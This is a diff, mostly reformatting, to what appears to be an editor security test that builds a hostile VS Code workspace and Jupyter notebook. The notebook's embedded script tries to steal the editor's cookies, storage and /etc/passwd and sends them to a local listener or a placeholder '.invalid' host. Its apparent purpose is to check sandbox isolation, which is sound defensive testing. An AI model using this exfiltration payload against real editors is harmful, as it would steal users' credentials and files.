@@ -12,12 +12,12 @@ import { setTraps } from "./traps.mjs";
 /** Names for what a listener can't stand in for; nobody has them. */
 const NOWHERE = "leak.localcoder-test.invalid";
 
-/** Colours by which who can only look at the screen sees that a page is shown. */
+/** Colors by which who can only look at the screen sees that a page is shown. */
 export const SEEN = { preview: [254, 1, 127], notebook: [1, 254, 127] };
 
 /** A picture of one point, as an address. */
-function pointOf(colour) {
-  return `data:image/png;base64,${png(1, 1, () => colour).toString("base64")}`;
+function pointOf(color) {
+  return `data:image/png;base64,${png(1, 1, () => color).toString("base64")}`;
 }
 
 /** Everything that a page can load, or prepare to load, by markup alone. */
@@ -67,7 +67,10 @@ export function makeHostile(folder, port, marks) {
   const elsewhere = `http://127.0.0.1:${port}`;
   mkdirSync(join(folder, ".vscode"), { recursive: true });
   const write = (name, text) => {
-    writeFileSync(join(folder, name), typeof text === "string" ? text : JSON.stringify(text, null, 2));
+    writeFileSync(
+      join(folder, name),
+      typeof text === "string" ? text : JSON.stringify(text, null, 2),
+    );
   };
   const traps = marks === undefined ? {} : setTraps(folder, marks);
   write(".vscode/settings.json", {
@@ -146,7 +149,9 @@ function contentOf(type, elsewhere) {
 
 /** A notebook with an output that runs scripts where it is shown. */
 function notebook(elsewhere) {
-  const output = `${markup(elsewhere).filter((it) => !/<script/u.test(it)).join("\n")}
+  const output = `${markup(elsewhere)
+    .filter((it) => !/<script/u.test(it))
+    .join("\n")}
     <p id="tried">not yet</p>
     <script>(${attack})(${[elsewhere, NOWHERE, SEEN.notebook].map((it) => JSON.stringify(it))});</script>`;
   return {
@@ -180,14 +185,20 @@ function notebook(elsewhere) {
         execution_count: 1,
         metadata: {},
         source: [type],
-        outputs: [{ output_type: "display_data", metadata: {}, data: { [type]: [contentOf(type, elsewhere)] } }],
+        outputs: [
+          {
+            output_type: "display_data",
+            metadata: {},
+            data: { [type]: [contentOf(type, elsewhere)] },
+          },
+        ],
       })),
     ],
   };
 }
 
 /** Runs in the notebook's page: tries everything, and writes down what came of it. */
-async function attack(elsewhere, nowhere, colour) {
+async function attack(elsewhere, nowhere, color) {
   const tried = {};
   const attempt = async (name, body) => {
     try {
@@ -196,15 +207,15 @@ async function attack(elsewhere, nowhere, colour) {
       tried[name] = `refused: ${error.name}`;
     }
   };
-  await attempt("the editor's cookie", () => window.top.document.cookie);
-  await attempt("the editor's address", () => window.top.location.href);
-  await attempt("the editor's storage", () => JSON.stringify(window.top.localStorage));
+  await attempt("the editor's cookie", () => window.top?.document.cookie);
+  await attempt("the editor's address", () => window.top?.location.href);
+  await attempt("the editor's storage", () => JSON.stringify(window.top?.localStorage));
   // Of its own origin it may have these; nothing of the editor's is in them.
   await attempt("own cookie", () => document.cookie);
   const editor = window.location.ancestorOrigins?.[window.location.ancestorOrigins.length - 1];
   const file = "/vscode-remote-resource?path=/etc/passwd";
   for (const base of [editor, location.origin]) {
-    const options = { credentials: "include" };
+    const options = /** @type {const} */ ({ credentials: "include" });
     await attempt(`file of ${base}`, async () => (await fetch(base + file, options)).text());
   }
   const leak = encodeURIComponent(JSON.stringify(tried));
@@ -247,12 +258,12 @@ async function attack(elsewhere, nowhere, colour) {
   await attempt("script", () => import(`${elsewhere}/script.js?${leak}`));
   await attempt("window", () => window.open(`${elsewhere}/window?${leak}`));
   await attempt("top", () => {
-    window.top.location.href = `${elsewhere}/top?${leak}`;
+    /** @type {Window} */ (window.top).location.href = `${elsewhere}/top?${leak}`;
   });
-  const shown = document.getElementById("tried");
+  const shown = /** @type {HTMLElement} */ (document.getElementById("tried"));
   shown.textContent = JSON.stringify(tried);
   // For who can only look at the screen.
-  shown.style = `background: rgb(${colour}); height: 300px; overflow: hidden`;
+  shown.style.cssText = `background: rgb(${color}); height: 300px; overflow: hidden`;
 }
 
 /** What the notebook's page does last, as it is gone then: it goes elsewhere with what it knows. */
